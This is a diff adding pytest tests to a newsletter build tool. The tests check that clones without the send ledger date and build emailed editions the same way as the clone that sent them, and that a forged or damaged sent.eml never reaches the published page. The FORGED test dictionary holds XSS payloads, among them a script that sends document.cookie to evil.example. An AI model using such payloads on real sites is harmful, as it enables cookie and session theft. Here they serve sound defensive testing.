@@ -835,3 +835,123 @@ def test_a_list_message_checked_as_arrived_after_a_rebuild_keeps_what_went_out(t
     page = root / "site" / "static" / "newsletter" / PERIOD / "index.html"
     assert "A late talk" not in page.read_text(encoding="utf-8")
     assert "entries/2021/02/late.md: added to 2021-02 after it was emailed" in built(root, PERIOD)
+
+
+def clone_without_the_ledger(root: Path, clone: Path) -> Path:
+    """Another clone of the log `root` keeps, as git gives it: no .newsletter/ (the ledger, the
+    cache) and of dist/ only each edition's sent.eml, as init's .gitignore has it."""
+    import shutil
+
+    shutil.copytree(root, clone, ignore=shutil.ignore_patterns(".newsletter"))
+    for output in (clone / "dist").glob("*/*"):
+        if output.name != "sent.eml":
+            output.unlink()
+    return clone
+
+
+def pull_site(source: Path, into: Path) -> None:
+    """`git pull` of the other clone's site/ (its static/ pages and feeds, committed)."""
+    import shutil
+
+    shutil.copytree(source / "site", into / "site", dirs_exist_ok=True)
+
+
+def test_a_clone_without_the_ledger_builds_the_emailed_week_as_the_clone_that_sent_it(tmp_path):
+    """New user 53's two clones of one log, one of which sends: after the week went out and a
+    late talk was written up, the clone without the ledger built the week's item in the editions
+    feed (and its page, where it had none) with the talk, the other without it, so each build
+    after pulling the other's site changed the item back and set its `updated` to now (review
+    35). The committed copy as sent says what went out: both build the same feed and page."""
+    root, server = sent_week(tmp_path / "sent-here")
+    try:
+        write_entry(root, "late", 12, "A late talk")
+        built(root, PERIOD)  # (the month, not emailed, has it: the feeds hold both editions)
+        built(root)
+        other = clone_without_the_ledger(root, tmp_path / "other")
+        (other / "site" / "static" / "newsletter" / WEEK / "index.html").unlink()  # (never pulled yet)
+        built(other, PERIOD)  # (the month too, which the feeds hold: each clone builds both)
+        built(other)
+        feeds, page = Path("site/static/feeds/editions.json"), Path(f"site/static/newsletter/{WEEK}/index.html")
+        assert "A late talk" not in (other / page).read_text()
+        assert week_items(other / feeds.parent) == week_items(root / feeds.parent)
+        for _ in range(2):  # each pulls the other's site and builds: nothing changes
+            pull_site(other, root)
+            built(root)
+            pull_site(root, other)
+            built(other)
+        assert (other / feeds).read_bytes() == (root / feeds).read_bytes()
+        assert (other / page).read_bytes() == (root / page).read_bytes()
+        [item] = week_items(root / feeds.parent)
+        assert "A late talk" not in json.dumps(item) and "date_modified" not in item
+    finally:
+        server.__exit__(None, None, None)
+
+
+def test_a_clone_without_the_ledger_dates_the_emailed_edition_as_sent_when_a_late_entry_dates_its_post(
+    tmp_path, monkeypatch
+):
+    """An edition sent before its period was over is dated by its latest entry: a late talk dated
+    the 20th dated the post, and the clone without the ledger, whose builds all hold it, gave the
+    editions feed's item the 20th, where the clone that sent it says the 14th it went out with."""
+    import datetime as dt
+
+    from newsletter import render
+
+    def in_progress(edition, settings):  # (today in its period: dated by its latest entry)
+        return dt.datetime.combine(max(e.date for e in edition.entries), dt.time(0), tzinfo=dt.UTC)
+
+    monkeypatch.setattr(render, "publication_date", in_progress)
+    with SmtpServer() as server:
+        root = workspace(tmp_path / "sent-here", server.settings())
+        send(root, PERIOD, yes=True, env={})
+    write_entry(root, "late", 20, "A late talk")
+    built(root, PERIOD)
+    other = clone_without_the_ledger(root, tmp_path / "other")
+    built(other, PERIOD)
+    feeds = Path("site/static/feeds/editions.json")
+    [item] = json.loads((other / feeds).read_text())["items"]
+    assert item["date_published"].startswith("2021-02-14") and "A late talk" not in item["content_html"]
+    assert (other / feeds).read_bytes() == (root / feeds).read_bytes()
+
+
+FORGED = {
+    "a script": "<script>fetch('https://evil.example/'+document.cookie)</script>",
+    "an on* attribute": '<img src="https://example.com/x.png" alt="" width="1" onerror="alert(1)">',
+    "a javascript: link": '<a href=" javascript:alert(1)">The first article</a>',
+    "a frame": '<iframe src="https://evil.example/"></iframe>',
+    "a CSS expression": '<p style="width: expression(alert(1))">x</p>',
+}
+
+
+@pytest.mark.parametrize("forged", [*FORGED, "damaged", "cut short"])
+def test_a_pulled_copy_as_sent_forged_or_damaged_neither_crashes_nor_reaches_the_page(tmp_path, forged):
+    """The copy as sent a clone without the ledger goes by came from git: one holding what runs
+    in a browser (which no email of ours has) is no copy, so it never becomes the edition's page
+    on the web; one damaged or cut short is none either, and the build goes on."""
+    from email.message import EmailMessage
+
+    root, server = sent_week(tmp_path / "sent-here")
+    try:
+        other = clone_without_the_ledger(root, tmp_path / "other")
+    finally:
+        server.__exit__(None, None, None)
+    copy = other / "dist" / WEEK / "sent.eml"
+    if forged == "damaged":
+        copy.write_bytes(bytes(range(256)) * 64)
+    elif forged == "cut short":
+        copy.write_bytes(copy.read_bytes()[: len(copy.read_bytes()) // 2])
+    else:
+        message = EmailMessage()
+        message["Message-ID"] = f"<{WEEK}.0123456789abcdef@example.com>"
+        message["Subject"] = "Test Letter"
+        message.set_content("https://example.com/second")
+        body = f'<p><a href="https://example.com/second">The second article</a></p>{FORGED[forged]}'
+        message.add_alternative(f"<!DOCTYPE html><html><body>{body}</body></html>", subtype="html")
+        copy.write_bytes(message.as_bytes())
+    page = other / "site" / "static" / "newsletter" / WEEK / "index.html"
+    page.unlink()
+    built(other)
+    shown = page.read_text()
+    assert "The second article" in shown
+    for said in ("evil.example", "alert(", "javascript:", "onerror"):
+        assert said not in shown
